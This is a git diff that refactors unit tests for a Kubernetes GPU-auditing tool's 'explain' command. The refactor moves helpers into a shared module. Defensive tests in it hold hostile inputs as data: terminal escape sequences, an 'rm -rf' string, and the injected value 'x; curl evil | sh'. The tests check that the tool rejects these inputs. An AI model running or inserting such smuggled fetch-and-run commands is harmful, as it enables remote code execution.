@@ -7,63 +7,31 @@ node report goes through the agent's writer and the base's parser the same way.
 
 from __future__ import annotations
 
-import datetime as dt
 import json
-from pathlib import Path
-from typing import Any
 
 import pytest
 
 from gpu_auditor.base.contract import Allocated
-from gpu_auditor.base.nodereport import Gpu, NodeReport, PodEntry, parse_report, to_body, to_spec
+from gpu_auditor.base.nodereport import PodEntry
 from gpu_auditor.commands import explaintext
 from gpu_auditor.commands.explanation import explain
-from gpu_auditor.controller import annotations as writer
-from gpu_auditor.controller.pod import Termination, parse_pod
-from gpu_auditor.diagnosis import diagnose_stream
+
+from .explain_helpers import (
+    GIB,
+    OTHER_UID,
+    PREFIX,
+    UID,
+    failed_pod,
+    node_report,
+    operator_annotations,
+)
 
 pytestmark = pytest.mark.unit
 
-ROOT = Path(__file__).resolve().parents[2]
-LOGS = ROOT / "examples" / "logs"
-PREFIX = "gpu-auditor.io/"
-UID, OTHER_UID = "11111111-2222-3333-4444-555555555555", "99999999-2222-3333-4444-555555555555"
-GIB = 2**30
-
-
-def _pod(annotations: dict[str, str], *, owners: list[dict[str, Any]] | None = None,
-         env: list[dict[str, str]] | None = None) -> dict[str, Any]:
-    return {
-        "metadata": {"namespace": "ml", "name": "finetune-7b-abc12", "uid": UID,
-                     "annotations": annotations, "ownerReferences": owners or []},
-        "spec": {"nodeName": "gpu-node-1",
-                 "containers": [{"name": "main", "env": env or []}]},
-        "status": {"phase": "Failed"},
-    }
-
-
-def _written(log: str, pod: dict[str, Any] | None = None) -> dict[str, str]:
-    with open(LOGS / log, "rb") as f:
-        diagnosis = diagnose_stream(f)
-    termination = Termination(container="main", restart_count=0, reason="Error", exit_code=1,
-                              message="", finished_at=None, previous=False)
-    typed = parse_pod(pod or _pod({}), PREFIX)
-    written = writer.diagnosis_annotations(
-        diagnosis, termination, typed, prefix=PREFIX, previous_keys=[], source="log",
-        now=dt.datetime(2026, 12, 1, 4, 0, tzinfo=dt.UTC))
-    return {k: v for k, v in written.annotations.items() if v is not None}
-
-
-def _report(*entries: PodEntry, used: int = 100 * GIB) -> NodeReport:
-    gpu = Gpu(uuid="GPU-aaaa", index=0, model="NVIDIA H200", total_bytes=140 * GIB,
-              used_bytes=used, free_bytes=140 * GIB - used, pods=entries)
-    return parse_report(to_body(to_spec(NodeReport(node="gpu-node-1", gpus=(gpu,),
-                                                   generated_at="2026-12-01T04:00:00Z"))))
-
 
 def test_a_fragmentation_diagnosis_reads_back_whole_with_every_action_in_order() -> None:
-    notes = _written("fragmentation.log")
-    e = explain(_pod(notes), events=[], owners=(), report=None, report_note="")
+    notes = operator_annotations("fragmentation.log")
+    e = explain(failed_pod(notes), events=[], owners=(), report=None, report_note="")
     assert e.diagnosis is not None
     assert e.diagnosis.kind == "fragmentation"
     assert list(e.diagnosis.actions) == json.loads(notes[f"{PREFIX}actions"])
@@ -75,9 +43,9 @@ def test_a_fragmentation_diagnosis_reads_back_whole_with_every_action_in_order()
 
 
 def test_the_setting_is_a_set_env_line_for_the_deployment_not_its_replicaset() -> None:
-    notes = _written("fragmentation.log")
+    notes = operator_annotations("fragmentation.log")
     owners = ("ReplicaSet/finetune-7b-5d9f", "Deployment/finetune-7b")
-    e = explain(_pod(notes), events=[], owners=owners, report=None, report_note="")
+    e = explain(failed_pod(notes), events=[], owners=owners, report=None, report_note="")
     assert e.setting is not None
     assert e.setting.set_env_command == (
         "kubectl -n ml set env deployment/finetune-7b -c main "
@@ -89,8 +57,9 @@ def test_the_setting_is_a_set_env_line_for_the_deployment_not_its_replicaset() -
 
 
 def test_the_setting_keeps_the_variable_the_container_already_sets() -> None:
-    pod = _pod({}, env=[{"name": "PYTORCH_ALLOC_CONF", "value": "max_split_size_mb:64"}])
-    e = explain(_pod(_written("fragmentation.log"), env=pod["spec"]["containers"][0]["env"]),
+    pod = failed_pod({}, env=[{"name": "PYTORCH_ALLOC_CONF", "value": "max_split_size_mb:64"}])
+    e = explain(failed_pod(operator_annotations("fragmentation.log"),
+                           env=pod["spec"]["containers"][0]["env"]),
                 events=[], owners=(), report=None, report_note="")
     assert e.setting is not None and e.setting.variable == "PYTORCH_ALLOC_CONF"
     assert e.setting.set_env_command == ""  # a bare pod: its env cannot change
@@ -98,14 +67,15 @@ def test_the_setting_keeps_the_variable_the_container_already_sets() -> None:
 
 
 def test_other_processes_of_the_message_are_named_by_the_node_reports_pids() -> None:
-    notes = _written("gpu-shared.log")
-    e0 = explain(_pod(notes), events=[], owners=(), report=None, report_note="")
+    notes = operator_annotations("gpu-shared.log")
+    e0 = explain(failed_pod(notes), events=[], owners=(), report=None, report_note="")
     assert e0.diagnosis is not None and e0.diagnosis.figures.other_processes
     pid = e0.diagnosis.figures.other_processes[0].pid
-    report = _report(
+    report = node_report(
         PodEntry("ml", "finetune-7b-abc12", UID, "main", Allocated.TRUE, 10 * GIB, (4242,)),
         PodEntry("ml", "notebook-1", OTHER_UID, "lab", Allocated.FALSE, 80 * GIB, (pid,)))
-    e = explain(_pod(notes), events=[], owners=(), report=report, report_note="GPUNodeReport x")
+    e = explain(failed_pod(notes), events=[], owners=(), report=report,
+                report_note="GPUNodeReport x")
     assert e.diagnosis is not None
     assert e.diagnosis.figures.other_processes[0].pod == "ml/notebook-1"
     (gpu,) = e.gpus
@@ -119,36 +89,36 @@ def test_other_processes_of_the_message_are_named_by_the_node_reports_pids() -> 
 
 
 def test_a_gpu_the_pod_is_not_on_is_not_listed() -> None:
-    report = _report(PodEntry("x", "y", OTHER_UID, "c", Allocated.TRUE, GIB, (7,)))
-    e = explain(_pod(_written("capacity.log")), events=[], owners=(), report=report,
-                report_note="r")
+    report = node_report(PodEntry("x", "y", OTHER_UID, "c", Allocated.TRUE, GIB, (7,)))
+    e = explain(failed_pod(operator_annotations("capacity.log")), events=[], owners=(),
+                report=report, report_note="r")
     assert e.gpus == ()
 
 
 def test_escape_sequences_in_annotations_never_reach_the_terminal() -> None:
-    notes = _written("fragmentation.log")
+    notes = operator_annotations("fragmentation.log")
     notes[f"{PREFIX}summary"] = "ok\x1b]0;pwned\x07\nFAKE: line\x1b[2J"
     notes[f"{PREFIX}actions"] = json.dumps(["run \x1b[31mrm -rf\x1b[0m"])
-    text = explaintext.render(explain(_pod(notes), events=[], owners=(), report=None,
+    text = explaintext.render(explain(failed_pod(notes), events=[], owners=(), report=None,
                                       report_note=""))
     assert "\x1b" not in text and "\x07" not in text
     assert "\nFAKE: line" not in text
 
 
 def test_annotations_that_are_not_json_are_said_not_guessed() -> None:
-    notes = _written("fragmentation.log")
+    notes = operator_annotations("fragmentation.log")
     notes[f"{PREFIX}evidence"] = "{not json"
     notes[f"{PREFIX}actions"] = '{"a": 1}'
-    e = explain(_pod(notes), events=[], owners=(), report=None, report_note="")
+    e = explain(failed_pod(notes), events=[], owners=(), report=None, report_note="")
     assert e.diagnosis is not None and e.diagnosis.actions == ()
     assert "the evidence annotation is not valid JSON; not shown" in e.notes
     assert "the actions annotation is not a JSON list; not shown" in e.notes
 
 
 def test_a_forged_recommendation_gets_no_snippet_and_says_why() -> None:
-    notes = _written("fragmentation.log")
+    notes = operator_annotations("fragmentation.log")
     notes[f"{PREFIX}recommended-alloc-conf"] = "x; curl evil | sh"
-    e = explain(_pod(notes), events=[], owners=("Deployment/d",), report=None, report_note="")
+    e = explain(failed_pod(notes), events=[], owners=("Deployment/d",), report=None, report_note="")
     assert e.setting is None
     assert e.setting_withheld.startswith("the recommended value 'x; curl evil | sh' does not")
     assert "kubectl" not in explaintext.render(e).split("No setting offered")[1]
@@ -169,40 +139,28 @@ def test_only_the_operators_events_about_this_pod_are_shown_oldest_first() -> No
          "type": "Warning", "reason": "UnintendedGPUSharing", "message": "first",
          "lastTimestamp": "2026-12-01T04:01:00Z", "count": 3},
     ]
-    e = explain(_pod({}), events=events, owners=(), report=None, report_note="")
+    e = explain(failed_pod({}), events=events, owners=(), report=None, report_note="")
     assert [ev.message for ev in e.events] == ["first", "second"]
     assert "UnintendedGPUSharing (x3): first" in explaintext.render(e)
 
 
 def test_a_pod_without_a_diagnosis_says_so() -> None:
-    e = explain(_pod({"other.io/x": "y"}), events=[], owners=(), report=None,
+    e = explain(failed_pod({"other.io/x": "y"}), events=[], owners=(), report=None,
                 report_note="unknown: x")
     assert e.diagnosis is None and e.sharing is None
     assert "No gpu-auditor diagnosis on this pod" in explaintext.render(e)
 
 
-def test_json_output_is_the_whole_explanation_in_bytes() -> None:
-    report = _report(PodEntry("ml", "finetune-7b-abc12", UID, "main", Allocated.TRUE, 10 * GIB))
-    e = explain(_pod(_written("fragmentation.log")), events=[], owners=("Job/j",),
-                report=report, report_note="r")
-    data = json.loads(json.dumps(explaintext.to_json(e)))
-    assert data["diagnosis"]["kind"] == "fragmentation"
-    assert data["owners"] == ["Job/j"]
-    assert data["gpus"][0]["tenants"][0]["allocated"] == "true"
-    assert data["gpus"][0]["unattributed_bytes"] == 90 * GIB
-    assert data["setting"]["set_env_command"] == ""  # a Job's pod template is immutable
-    assert data["setting"]["no_command"].startswith("a Job's pod template cannot change")
-
-
 def test_a_cronjobs_job_gets_the_cronjob_and_a_custom_kind_its_own_spec() -> None:
-    notes = _written("fragmentation.log")
-    e = explain(_pod(notes), events=[], owners=("Job/nightly-29", "CronJob/nightly"),
+    notes = operator_annotations("fragmentation.log")
+    e = explain(failed_pod(notes), events=[], owners=("Job/nightly-29", "CronJob/nightly"),
                 report=None, report_note="")
     assert e.setting is not None
     assert e.setting.set_env_command == (
         "kubectl -n ml set env cronjob/nightly -c main "
         "PYTORCH_CUDA_ALLOC_CONF='expandable_segments:True'")
-    e = explain(_pod(notes), events=[], owners=("PyTorchJob/llm",), report=None, report_note="")
+    e = explain(failed_pod(notes), events=[], owners=("PyTorchJob/llm",), report=None,
+                report_note="")
     assert e.setting is not None and e.setting.set_env_command == ""
     assert "to PyTorchJob/llm: edit the pod template in the PyTorchJob's spec:" in \
         explaintext.render(e)
